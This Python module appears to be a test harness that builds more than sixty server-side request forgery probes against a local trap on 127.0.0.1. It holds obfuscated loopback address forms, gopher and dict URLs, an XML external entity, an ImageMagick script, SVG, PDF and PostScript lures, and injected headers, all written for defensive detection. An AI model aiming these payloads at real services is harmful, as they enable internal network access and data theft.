# SPDX-License-Identifier: Apache-2.0
"""Sixty and more ways to make a server fetch something (SSRF), all of which name one trap."""

from __future__ import annotations

import base64
import io
import json
from collections.abc import Iterator

from http_mutator import form, head
from PIL import Image
from PIL.PngImagePlugin import PngInfo

KIND = "multipart/form-data; boundary=frontier"


def addresses(port: int) -> list[str]:
    """One place in many spellings."""
    return [
        f"http://127.0.0.1:{port}/a.png",
        f"https://127.0.0.1:{port}/a.png",
        f"http://localhost:{port}/a.png",
        f"HTTP://LOCALHOST:{port}/a.png",
        f"http://[::ffff:127.0.0.1]:{port}/a.png",
        f"http://[::1]:{port}/a.png",
        f"http://2130706433:{port}/a.png",
        f"http://0x7f000001:{port}/a.png",
        f"http://0177.0.0.1:{port}/a.png",
        f"http://127.1:{port}/a.png",
        f"http://0:{port}/a.png",
        f"http://user:word@127.0.0.1:{port}/a.png",
        f"http://example.org@127.0.0.1:{port}/a.png",
        f"http://127.0.0.1:{port}#@example.org/",
        f"http:/\\127.0.0.1:{port}/a.png",
        f"//127.0.0.1:{port}/a.png",
        f"ftp://127.0.0.1:{port}/a.png",
        f"gopher://127.0.0.1:{port}/_a",
        f"dict://127.0.0.1:{port}/a",
        f"ldap://127.0.0.1:{port}/a",
        f"\\\\127.0.0.1@{port}\\share\\a.png",
        f" http://127.0.0.1:{port}/a.png",
        f"view-source:http://127.0.0.1:{port}/a.png",
        f"http://①②⑦.⓪.⓪.①:{port}/a.png",
    ]


def pictures(url: str) -> dict[str, bytes]:
    """Files that name an address inside."""
    ground = Image.new("RGB", (16, 16), (9, 99, 199))

    def saved(kind: str, **options: object) -> bytes:
        file = io.BytesIO()
        ground.save(file, kind, **options)
        return file.getvalue()

    notes = PngInfo()
    notes.add_text("Source", url)
    notes.add_itxt("XML:com.adobe.xmp", f'<x xlink:href="{url}"/>')
    xmp = f'<?xpacket?><rdf:RDF><rdf:li rdf:resource="{url}"/></rdf:RDF>'.encode()
    entity = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{url}">]><a>&x;</a>'
    return {
        "a PNG's text": saved("PNG", pnginfo=notes),
        "a JPEG's comment": saved("JPEG", comment=url.encode()),
        "a JPEG's XMP": saved("JPEG", xmp=xmp),
        "a WebP's XMP": saved("WEBP", xmp=xmp),
        "a TIFF's description": saved("TIFF", description=url),
        "an SVG's image": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/></svg>'.encode(),
        "an SVG's style": f'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "{url}";</style></svg>'.encode(),
        "an XML entity": entity.encode(),
        "a playlist": f"#EXTM3U\n#EXTINF:1,\n{url}\n".encode(),
        "an Image Magick script": f"push graphic-context\nimage over 0,0 0,0 '{url}'\npop graphic-context".encode(),
        "a PostScript file": f"%!PS\n({url}) run".encode(),
        "a PDF's action": f"%PDF-1.7\n1 0 obj<</S/URI/URI({url})>>endobj".encode(),
        "an HTML page": f'<meta http-equiv="refresh" content="0;url={url}">'.encode(),
        "a URL file": f"[InternetShortcut]\nURL={url}\n".encode(),
        "the address alone": url.encode(),
    }


def forms(port: int) -> Iterator[tuple[str, bytes]]:
    """Every form with its name."""
    for url in addresses(port):
        yield f"JSON image {url}", _json({"image": url})
        yield f"form field {url}", head("/predict", form(url.encode(), {"image": url}, disposition="x=y"), KIND)
    url = addresses(port)[0]
    plain = pictures(url)["a PNG's text"]
    for name, file in pictures(url).items():
        yield f"raw {name}", head("/predict", file, "application/octet-stream")
        yield f"base64 {name}", _json({"image": base64.b64encode(file).decode()})
    for name in ("url", "image_url", "src", "callback", "webhook", "model", "proxy", "image"):
        yield f"query {name}", head(f"/predict?{name}={url}", plain, "image/png")
        yield f"JSON {name}", _json({"image": base64.b64encode(plain).decode(), name: url})
        yield f"form {name}", head("/predict", form(plain, {name: url}), KIND)
    yield "JSON nested", _json({"image": {"url": url}})
    yield "JSON list", _json({"image": [url]})
    yield "file name", head("/predict", form(plain, {}, disposition=f'filename="{url}"'), KIND)
    for line in (
        "Referer",
        "Origin",
        "Location",
        "Content-Location",
        "X-Forwarded-Host",
        "X-Original-URL",
        "Link",
        "From",
    ):
        yield f"header {line}", head("/predict", plain, "image/png", "", f"{line}: {url}")
    for line in ("Forwarded: for=127.0.0.1;host=", "X-Forwarded-Server: ", "X-Callback-Url: ", "Destination: "):
        yield f"header {line}", head("/predict", plain, "image/png", "", f"{line}{url}")
    for kind in (
        "text/uri-list",
        "message/external-body; access-type=URL; URL=" + url,
        "application/x-www-form-urlencoded",
    ):
        yield f"kind {kind}", head("/predict", f"url={url}".encode(), kind)
    yield "absolute target", head(url, plain, "image/png")
    yield "absolute target, GET", head(url)
    yield (
        "CONNECT",
        f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n".encode(),
    )
    yield "Host", f"GET /model HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n".encode()


def _json(said: dict[str, object]) -> bytes:
    return head("/predict", json.dumps(said).encode(), "application/json")
